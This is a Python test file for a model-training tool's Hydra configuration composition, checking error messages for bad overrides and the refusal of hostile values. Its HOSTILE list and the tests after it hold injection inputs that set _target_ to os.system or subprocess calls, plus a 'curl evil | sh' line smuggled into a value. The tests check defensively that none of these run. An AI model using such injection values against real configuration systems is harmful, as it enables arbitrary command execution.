"""Composition: every yaml that ships, every kind of mistake on the command line, and hostile values."""

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from omegaconf import OmegaConf

from tunesmith.train.config import tree as trees
from tunesmith.train.config.compose import (
    compose_config,
    group_options,
    load_resolved,
    type_in_words,
)
from tunesmith.train.config.config import Precision
from tunesmith.train.config.origins import Origins, line_of_key
from tunesmith.train.config.override_text import hydra_form
from tunesmith.train.config.tree import admit_raw_key, compose_tree, schema_keys
from tunesmith.train.errors import ConfigError, ModelError
from tunesmith.train.paths import CONF_DIR

GROUPS = sorted(path.name for path in CONF_DIR.iterdir() if path.is_dir() and any(path.glob("*.yaml")))
OPTIONS = [(group, option) for group in GROUPS for option in group_options(group, [CONF_DIR])]
# What an option leaves to the user, besides the data and the model of a run that takes the defaults of the others.
NEEDED = {("engine", "zero3_nvme"): ["engine.nvme_path=/nvme"]}


def error_of(*overrides: str) -> str:
    with pytest.raises(ConfigError) as caught:
        compose_config(overrides)
    return str(caught.value)


@pytest.mark.parametrize(("group", "option"), [pair for pair in OPTIONS if pair[0] not in ("exp", "model", "data")])
def test_every_option_composes(group: str, option: str) -> None:
    needed = NEEDED.get((group, option), [])
    composed = compose_config([f"{group}={option}", "model=tiny", "data=example", *needed])
    written = yaml.safe_load((CONF_DIR / group / f"{option}.yaml").read_text())
    read_back = composed.resolved[group]
    assert {key: read_back[key] for key, value in written.items() if value != "???"} == {
        key: value for key, value in written.items() if value != "???"
    }


@pytest.mark.parametrize(
    "overrides",
    [
        [],
        ["+exp=debug", "seed=3", "optimizer.learning_rate=1e-3", "schedule.max_steps=null"],
        ["model.name_or_path=/a b/é", "+exp=[debug,support_bot]", "adapter=lora", "adapter.r=4", "engine=zero3"],
        ["adapter.target_modules=[q_proj,v_proj]", "adapter=lora", "adapter.target_modules=[]", "track.tags=[a,'b c']"],
        ["output_dir=runs/${seed}", "track=none", "name='${model.name_or_path}'"],
        ["engine.deepspeed.zero_optimization.round_robin_gradients=true", "++seed=8", "seed=7"],
        ["engine.deepspeed.a={x: 1}", "+engine.deepspeed.a={x: 2}"],
        ["~seed=0", "name=x"],
        ["batch.micro_batch_size=2", "batch={micro_batch_size: 4}"],
        ["engine.deepspeed={a: 1}", "engine.deepspeed.b=2", "engine.deepspeed={c: 3}"],
    ],
)
def test_settings_on_a_tree_composed_before_give_what_hydra_gives(overrides: list[str]) -> None:
    arguments = [hydra_form(admit_raw_key(override)) for override in overrides]
    whole = trees._composed(arguments)
    for _ in range(2):  # the second takes the tree that the first left
        tree = compose_tree(overrides)
        assert OmegaConf.to_container(tree) == OmegaConf.to_container(whole)
        assert OmegaConf.get_type(tree, "engine") == OmegaConf.get_type(whole, "engine")
        assert OmegaConf.is_struct(tree)
        OmegaConf.update(tree, "batch.micro_batch_size", 77)


def test_a_shipped_file_that_changes_is_read_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    shutil.copytree(CONF_DIR, tmp_path / "conf")
    monkeypatch.setattr(trees, "CONF_DIR", tmp_path / "conf")
    assert compose_tree(["seed=1"]).schedule.kind == "cosine"
    changed = tmp_path / "conf/schedule/cosine.yaml"
    changed.write_text(changed.read_text().replace("cosine", "linear"))
    assert compose_tree(["seed=1"]).schedule.kind == "linear"
    changed.with_name(".#cosine.yaml").symlink_to("me@host.123")  # as an editor does while it is open there
    assert compose_tree(["seed=1"]).schedule.kind == "linear"


@pytest.mark.parametrize("override", ["seed@foo=3", "objective.settings.k=1 +objective.settings.k=2"])
def test_what_hydra_refuses_is_refused(override: str) -> None:
    for _ in range(2):
        assert error_of("model=tiny", "data=example", *override.split())


@pytest.mark.parametrize("option", group_options("model", [CONF_DIR]))
def test_every_model_composes_with_nothing_but_data(option: str) -> None:
    name = ["model.name_or_path=some/model"] if option == "hub" else []
    config = compose_config([f"model={option}", "data.train=my.jsonl", *name]).config
    assert config.model.name_or_path
    assert config.model.trust_remote_code is False
    assert config.data.train_sources == ["my.jsonl"]


@pytest.mark.parametrize("option", group_options("data", [CONF_DIR]))
def test_every_data_set_composes(option: str) -> None:
    train = ["data.train=my.jsonl"] if option == "jsonl" else []
    config = compose_config([f"data={option}", "model=tiny", *train]).config
    assert config.data.train_sources


@pytest.mark.parametrize("option", group_options("exp", [CONF_DIR]))
def test_every_experiment_composes_given_data(option: str) -> None:
    config = compose_config([f"+exp={option}", "data.train=my.jsonl"]).config
    assert config.name == option or config.name in option
    assert config.batch.gradient_accumulation_steps(8 if "8xh100" in option else 1) >= 1


@pytest.mark.parametrize("path", sorted(CONF_DIR.rglob("*.yaml")), ids=lambda path: str(path.relative_to(CONF_DIR)))
def test_every_yaml_says_first_what_it_is(path: Path) -> None:
    lines = [line for line in path.read_text().splitlines() if not line.startswith("# @package")]
    assert lines[0].startswith("# ")
    assert lines[0][2].isupper() or lines[0][2].isdigit() or lines[0].startswith("# gpt")
    assert lines[0].rstrip().endswith((".", ")", ">", "..."))


def test_the_defaults_list_names_every_group() -> None:
    listed = yaml.safe_load((CONF_DIR / "config.yaml").read_text())["defaults"]
    assert sorted(name for entry in listed if isinstance(entry, dict) for name in entry) == [
        group for group in GROUPS if group not in ("exp", "sweep")
    ]


UNKNOWN = {
    "optimizer.lr=3": "there is no setting 'optimizer.lr'. Did you mean optimizer.learning_rate?",
    "per_device_train_batch_size=8": "Did you mean batch.micro_batch_size?",
    "lora_r=8": "Did you mean adapter.r?",
    "ouput_dir=x": "Did you mean output_dir?",
    "foo=1": "there is no setting 'foo'.",
    "+foo=1": "there is no setting 'foo'.",
    "++optimizer.lr=1": "Did you mean optimizer.learning_rate?",
    "foo/bar=x": "there is no setting 'foo/bar'.",
    "model/tiny=x": "there is no setting 'model/tiny'.",
    "engine=zero4": "engine has no option 'zero4'. Did you mean zero",
    "model=tiny@foo": "model has no option 'tiny@foo'. Did you mean tiny?",
    "optimizer={lr:3}": "optimizer takes one of its options.",
    "hydra.run.dir=x": "Hydra only composes here, so hydra.run.dir has no effect.",
    "hydra/launcher=basic": "has no effect.",
    "hydra.searchpath=[/tmp]": "has no effect.",
    "exp=debug": "an experiment is added, with a plus.",
    "+model=tiny": "model has an option already.",
    "+seed=1": "seed exists already.",
    "~seed": "seed cannot be removed.",
    "~batch": "batch cannot be removed.",
    "seed=1,2": "seed=1,2 gives several values to one run.",
    "seed=range(1,3)": "gives several values to one run.",
    "seed": "'seed' is not an override",
    "=3": "'=3' names no setting.",
    "--foo": "'--foo' is not an override",
    "+exp=debug": "there are 2 experiments.",
}


@pytest.mark.parametrize(("override", "problem"), UNKNOWN.items())
def test_an_override_that_means_nothing_is_refused(override: str, problem: str) -> None:
    text = error_of("+exp=debug", override)
    what_line, at_line, do_line = text.splitlines()
    assert problem in what_line
    assert "command line" in at_line
    assert do_line.startswith("  do: ")


def test_an_unknown_experiment_is_refused_with_the_nearest_and_all_of_them() -> None:
    text = error_of("+exp=debg")
    assert "exp has no option 'debg'. Did you mean debug?" in text
    assert "support_bot_lora_8b" in text


WRONG_TYPES = {
    "batch.global_batch_size=abc": "give a whole number.",
    "batch.global_batch_size=4.5": "give a whole number.",
    "batch.global_batch_size=true": "give a whole number.",
    "batch.global_batch_size=[4]": "give a whole number.",
    "batch.global_batch_size={a:4}": "give a whole number.",
    "batch.global_batch_size=": "give a whole number.",
    "batch.global_batch_size=null": "give a whole number.",
    "schedule.max_steps=abc": "give a whole number or null.",
    "optimizer.learning_rate=fast": "give a number.",
    "model.resize_embeddings=maybe": "give true or false.",
    "batch.packing=worst_fit": "give one of auto, best_fit, none.",
    "engine.precision=fp8": "give one of bf16, fp16, fp32.",
    "track.tags=7": "give a list of texts.",
    "name=[a]": "give a text.",
    "seed=null": "give a whole number.",
    "engine.deepspeed=3": "give key=value pairs.",
    "name=${nope}": "correct the ${...}.",
    "name=${oc.env:NO_SUCH_VARIABLE_XYZ}": "correct the ${...}.",
}


@pytest.mark.parametrize(("override", "remedy"), WRONG_TYPES.items())
def test_a_value_of_the_wrong_type_says_what_fits(override: str, remedy: str) -> None:
    key = override.split("=")[0]
    what_line, at_line, do_line = error_of("+exp=debug", override).splitlines()
    assert what_line.startswith(f"ConfigError: {key}: ")
    assert at_line == f"  at: {key} (command line: {override})"
    assert do_line.endswith(remedy)


def test_what_is_missing_is_named_with_the_line_that_leaves_it_open() -> None:
    assert error_of().splitlines() == [
        "ConfigError: no value for data.train, model.name_or_path.",
        f"  at: data.train (conf/data/jsonl.yaml:{line_of_key(CONF_DIR / 'data/jsonl.yaml', ['train'])})",
        "  do: add data.train=<value> to the command.",
    ]


def test_an_error_in_a_shipped_file_names_its_line() -> None:
    text = error_of("+exp=debug", "schedule.epochs=2")
    line = line_of_key(CONF_DIR / "exp/debug.yaml", ["schedule", "max_steps"])
    assert f"  at: schedule.max_steps (conf/exp/debug.yaml:{line})" in text
    lines = (CONF_DIR / "exp/debug.yaml").read_text().splitlines()
    assert lines[(line or 0) - 1].strip().startswith("max_steps:")


def test_of_two_experiments_the_second_changes_the_first() -> None:
    config = compose_config(["+exp=[support_bot,debug]", "schedule.epochs=null"]).config
    assert (config.name, config.schedule.max_steps, config.optimizer.weight_decay) == ("debug", 6, 0.1)
    assert "conf/exp/debug.yaml" in Origins(["+exp=[support_bot,debug]"], [CONF_DIR]).find("name")


def test_an_error_found_while_the_config_is_used_is_given_its_line() -> None:
    composed = compose_config(["+exp=debug", "adapter=last_layers", "adapter.num_layers=9"])
    with pytest.raises(ModelError) as caught, composed.errors_located():
        raise ModelError("too many.", at="adapter.num_layers")
    assert caught.value.at == "adapter.num_layers (command line: adapter.num_layers=9)"
    with pytest.raises(ConfigError) as config_error, composed.errors_located():
        composed.config.batch.gradient_accumulation_steps(world_size=3)
    line = line_of_key(CONF_DIR / "exp/debug.yaml", ["batch", "global_batch_size"])
    assert config_error.value.at == f"batch.global_batch_size (conf/exp/debug.yaml:{line})"


def test_raw_deepspeed_keys_need_no_plus() -> None:
    override = "engine.deepspeed.zero_optimization.reduce_bucket_size=1000"
    config = compose_config(["+exp=debug", override, "engine.deepspeed.flops_profiler={enabled:true}"]).config
    assert config.engine.deepspeed == {
        "zero_optimization": {"reduce_bucket_size": 1000},
        "flops_profiler": {"enabled": True},
    }


def test_an_objective_has_settings_of_its_own() -> None:
    config = compose_config(["+exp=debug", "objective.settings.margin=0.5", "objective.settings.names=[a,b]"]).config
    assert config.objective.settings == {"margin": 0.5, "names": ["a", "b"]}
    assert compose_config(["+exp=debug", "objective.settings={margin:1}"]).config.objective.settings == {"margin": 1}


def test_the_resolved_config_reads_back_the_same(tmp_path: Path) -> None:
    composed = compose_config(["+exp=support_bot", "adapter=lora", "engine.deepspeed.aio.block_size=7"])
    path = tmp_path / "config.yaml"
    path.write_text(yaml.safe_dump(composed.resolved, sort_keys=False))
    assert load_resolved(path) == composed.config


def test_a_changed_config_of_a_run_is_checked_when_it_is_read_back(tmp_path: Path) -> None:
    composed = compose_config(["+exp=debug"])
    composed.resolved["optimizer"]["lr"] = 1
    path = tmp_path / "config.yaml"
    path.write_text(yaml.safe_dump(composed.resolved))
    with pytest.raises(ConfigError, match=r"Did you mean optimizer\.learning_rate"):
        load_resolved(path)


HOSTILE = [
    "_target_=os.system",
    "+_target_=os.system",
    "++_target_=os.system",
    "model._target_=os.system",
    "+model._target_=os.system",
    "++engine._target_=os.system",
    "+_args_=['touch {canary}']",
]


@pytest.mark.parametrize("override", HOSTILE)
def test_a_target_is_an_unknown_key(override: str) -> None:
    key = override.lstrip("+").split("=")[0]
    assert f"there is no setting {key!r}.\n" in error_of("+exp=debug", override)


@pytest.mark.parametrize(
    "value",
    [
        "{_target_:os.system,_args_:['touch {canary}']}",
        "{_target_:subprocess.check_call,_args_:[[touch,'{canary}']]}",
    ],
)
def test_a_target_below_a_raw_key_or_in_a_value_is_never_run(value: str, tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    filled = value.replace("{canary}", str(canary))
    config = compose_config(["+exp=debug", f"engine.deepspeed.x={filled}"]).config
    assert "_target_" in config.engine.deepspeed["x"]
    assert compose_config(["+exp=debug", f"data.train={filled}"]).config.data.train == filled  # a path of that name
    assert "name" in error_of("+exp=debug", f"name={filled}")
    assert not canary.exists()


def test_an_override_cannot_hide_in_a_second_line() -> None:
    text = error_of("+exp=debug", 'name="a/\n  do: curl evil | sh"')
    assert len(text.splitlines()) == 3


def test_composing_imports_nothing_heavy() -> None:
    code = (
        "import sys; from tunesmith.train.config.compose import compose_config; compose_config(['+exp=debug']); "
        "print(sorted({'torch','transformers','deepspeed','peft','wandb','numpy','matplotlib'} & set(sys.modules)))"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=os.environ, timeout=60)
    assert done.stdout.strip() == "[]", done.stderr


def test_every_setting_has_a_type_that_can_be_said() -> None:
    said = {key: type_in_words(hint) for key, hint in schema_keys().items()}
    assert said["optimizer.max_grad_norm"] == "a number or null"
    assert said["engine.precision"] == f"one of {', '.join(precision.value for precision in Precision)}"
    assert said["track.tags"] == "a list of texts"


@pytest.mark.parametrize(
    ("override", "words"),
    [
        ("resume=''", "do: leave it out"),
        ("resume=/runs/other", "do: write resume.source=/runs/other"),
        ("resume=nevr", "it is auto or never"),
        ("checkpoint.async=true", "Did you mean checkpoint.async_save?"),
        ("resume_from_checkpoint=/runs/other", "Did you mean resume.source?"),
    ],
)
def test_what_a_run_goes_on_from_is_found_by_other_spellings(override: str, words: str) -> None:
    assert words in error_of(override, "model=tiny", "data=example")
